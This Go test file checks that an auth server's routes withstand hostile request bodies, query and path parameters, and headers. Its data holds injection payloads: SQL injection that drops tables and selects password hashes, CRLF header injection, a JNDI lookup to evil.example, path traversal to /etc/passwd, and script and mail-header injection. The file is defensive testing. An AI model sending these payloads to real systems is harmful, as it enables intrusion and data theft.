// SPDX-License-Identifier: Apache-2.0

package authserver_test

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/realmkeeper/realmkeeper/authserver/realmconfig"
)

// marker stands in everything hostile: no refusal and no log line may have it.
const marker = "hostile7f3aMarker"

// hostileTexts are values for wherever a text goes.
func hostileTexts() map[string]string {
	return map[string]string{
		"SQL":              marker + `'; DROP TABLE users; --`,
		"SQL union":        marker + `' UNION SELECT password_hash FROM users WHERE '1'='1`,
		"header":           marker + "\r\nSet-Cookie: admin=1\r\n\r\n<html>",
		"format":           marker + "%s%n%x{{.}}${jndi:ldap://evil.example}",
		"path":             "../../" + marker + "/../../etc/passwd",
		"HTML":             `<script>` + marker + `</script>`,
		"mail header":      marker + "@example.com\nBcc: all@example.com",
		"NUL":              marker + "\x00",
		"far too long":     marker + strings.Repeat("A", 5_000),
		"astral":           marker + strings.Repeat("\U0001F9D9", 200),
		"right to left":    "\u202e" + marker,
		"a lone surrogate": `\ud800` + marker,
	}
}

// hostileRealm has everything switched on, so that no route refuses before it
// has looked.
func hostileRealm(t *testing.T) *server {
	t.Helper()
	r := newRealm(t)
	r.Config.Email = &realmconfig.Email{
		From: "login@example.com", Host: "127.0.0.1", Port: 1, Security: realmconfig.NoTLS, AllowPrivateNetworks: true,
		Timeout: realmconfig.Duration(time.Second), Product: "Example",
	}
	r.Config.Login.Lockout.Failures = 100
	r.Update()
	return r.serve()
}

// described asks the server itself what it answers.
func (s *server) described() []operation {
	s.t.Helper()
	document := decode[struct {
		Paths map[string]map[string]json.RawMessage
	}](s.t, s.do(newRequest(s.t, http.MethodGet, "/api/openapi.json", nil)), http.StatusOK)
	c, err := readContract()
	if err != nil {
		s.t.Fatal(err)
	}
	count := 0
	for _, methods := range document.Paths {
		count += len(methods)
	}
	if count != len(c.operations) || count < 20 {
		s.t.Fatalf("the server describes %d operations, the routes are %d", count, len(c.operations))
	}
	return c.operations
}

func TestEveryRouteWithstandsHostileBodies(t *testing.T) {
	t.Parallel()
	s := hostileRealm(t)
	suite.secrets.used(marker)
	access := s.login().Access
	for _, op := range s.described() {
		if !op.body {
			continue
		}
		valid := op.sample(nil)
		invalid := func(body string) attack {
			return attack{body: body, status: http.StatusBadRequest, code: "invalid_request"}
		}
		attacks := map[string]attack{
			"no content type":      {body: valid, contentType: "-", status: http.StatusUnsupportedMediaType, code: "unsupported_media_type"},
			"a wrong content type": {body: valid, contentType: "text/plain", status: http.StatusUnsupportedMediaType, code: "unsupported_media_type"},
			"a form":               {body: "a=" + marker, contentType: "application/x-www-form-urlencoded", status: http.StatusUnsupportedMediaType, code: "unsupported_media_type"},
			"a mangled type":       {body: valid, contentType: "application/json; charset=\"" + marker, status: http.StatusUnsupportedMediaType, code: "unsupported_media_type"},
			"1 MB":                 {body: `{"x": "` + marker + strings.Repeat("x", 1<<20) + `"}`, status: http.StatusRequestEntityTooLarge, code: "body_too_large"},
			"1 MB of nothing":      {body: strings.Repeat(" ", 1<<20), status: http.StatusRequestEntityTooLarge, code: "body_too_large"},
			"an unknown field":     invalid(`{"` + marker + `": "` + marker + `"}`),
			"a value as a name":    invalid(`{"` + marker + ` 'x' = 'x'": 1}`),
			"deep nesting":         invalid(`{"x": ` + strings.Repeat("[", 10_000) + strings.Repeat("]", 10_000) + `}`),
			"deeper nesting":       invalid(`{"x": ` + strings.Repeat(`{"x":`, 10_000)),
			"an array":             invalid(`["` + marker + `"]`),
			"a string":             invalid(`"` + marker + `"`),
			"null":                 invalid(`null`),
			"invalid UTF-8":        invalid("{\"x\": \"" + marker + "\xff\xfe\"}"),
			"a NUL":                invalid("{\"x\": \"\x00" + marker + "\"}"),
			"two documents":        invalid(valid + valid),
			"no end":               invalid(`{"x": "` + marker),
			"no JSON":              invalid(marker),
			"a byte order mark":    invalid("\ufeff" + valid),
		}
		if op.bodyRequired() {
			attacks["no body"] = invalid("")
			attacks["an empty object"] = invalid("{}")
		}
		for name, property := range op.properties() {
			for kind, value := range map[string]any{
				"an object": map[string]any{marker: marker}, "an array": []string{marker}, "null": nil,
				"a number": 1e300, "text": marker, "true": true,
			} {
				if property.takes(kind) {
					continue
				}
				attacks[name+" is "+kind] = invalid(op.sample(map[string]any{name: value}))
			}
			if property.kind == "string" {
				for kind, text := range hostileTexts() {
					attacks[name+" is hostile: "+kind] = attack{body: op.sample(map[string]any{name: text})}
				}
			}
		}
		for name, a := range attacks {
			a.send(t, s, op, name, access)
		}
	}
}

// Paths and queries are attacked with every other part of the request in order.
func TestEveryRouteWithstandsHostileAddresses(t *testing.T) {
	t.Parallel()
	s := hostileRealm(t)
	suite.secrets.used(marker)
	access := s.login().Access
	for _, op := range s.described() {
		for _, p := range op.parameters() {
			for name, text := range hostileTexts() {
				attack{body: op.sample(nil), parameter: p, value: url.QueryEscape(text)}.send(t, s, op, p+" is hostile: "+name, access)
			}
			for name, raw := range map[string]string{"invalid UTF-8": marker + "%ff%fe", "an encoded slash": marker + "%2f..%2f", "twice": marker + "&" + p + "=" + marker} {
				attack{body: op.sample(nil), parameter: p, value: raw}.send(t, s, op, p+" is hostile: "+name, access)
			}
		}
	}
}

func TestEveryRouteWithstandsHostileHeaders(t *testing.T) {
	t.Parallel()
	s := hostileRealm(t)
	suite.secrets.used(marker)
	for _, op := range s.described() {
		access := ""
		if op.bearer {
			access = s.login().Access
		}
		for name, header := range map[string]http.Header{
			"user agent":        {"User-Agent": {marker + "\xff\xfe${jndi}" + strings.Repeat("x", 5000)}},
			"forwarded":         {"X-Forwarded-For": {marker + ", ::1%" + marker, "'; --"}, "Forwarded": {"for=\"" + marker}},
			"request id":        {"X-Request-Id": {marker}},
			"method override":   {"X-Http-Method-Override": {"DELETE"}, "X-Forwarded-Host": {marker + ".example"}},
			"cookies":           {"Cookie": {"__Host-rk-device=" + marker + "; =; ;;; a", strings.Repeat("a=b; ", 200)}},
			"device":            {"X-Device-Token": {marker, marker}},
			"origin":            {"Origin": {"https://" + marker + ".example"}},
			"conditional":       {"If-None-Match": {"\"" + marker}, "If-Match": {marker}, "Range": {"bytes=" + marker}},
			"content encoding":  {"Content-Encoding": {"gzip"}},
			"preferred content": {"Accept": {marker + "/\xff"}, "Accept-Language": {marker}},
		} {
			attack{body: op.sample(nil), header: header}.send(t, s, op, "hostile header: "+name, access)
		}
	}
}

// attack is one hostile request; a zero status means any refusal or success
// that is described.
type attack struct {
	body, contentType string
	header            http.Header
	parameter, value  string // raw, as in the address
	status            int
	code              string
}

func (a attack) send(t *testing.T, s *server, op operation, name, access string) {
	t.Helper()
	body := io.Reader(nil)
	if op.body {
		body = strings.NewReader(a.body)
	}
	r, err := http.NewRequestWithContext(t.Context(), op.method, issuer+op.address(a.parameter, a.value), body)
	if err != nil {
		t.Fatalf("%s %s: %s: %v", op.method, op.path, name, err)
	}
	switch {
	case a.contentType != "" && a.contentType != "-":
		r.Header.Set("Content-Type", a.contentType)
	case a.contentType == "" && op.body:
		r.Header.Set("Content-Type", "application/json")
	}
	for header, values := range a.header {
		r.Header[header] = values
	}
	if op.bearer {
		r.Header.Set("Authorization", "Bearer "+access)
	}
	answer := s.do(r)
	if answer.Status >= 500 && answer.Problem.Code != "email_unavailable" && answer.Problem.Code != "second_factor_unavailable" {
		t.Errorf("%s %s: %s: answered %d %s", op.method, op.path, name, answer.Status, answer.Body)
	}
	if a.status != 0 && (answer.Status != a.status || answer.Problem.Code != a.code) {
		t.Errorf("%s %s: %s: answered %d %s, want %d %s", op.method, op.path, name, answer.Status, answer.Body, a.status, a.code)
	}
	if answer.Status >= 400 && strings.Contains(answer.Body+fmt.Sprint(answer.Header), marker) {
		t.Errorf("%s %s: %s: the refusal quotes what was sent: %v %s", op.method, op.path, name, answer.Header, answer.Body)
	}
	if answer.Header.Get("Set-Cookie") == "admin=1" {
		t.Errorf("%s %s: %s: a header was injected", op.method, op.path, name)
	}
}
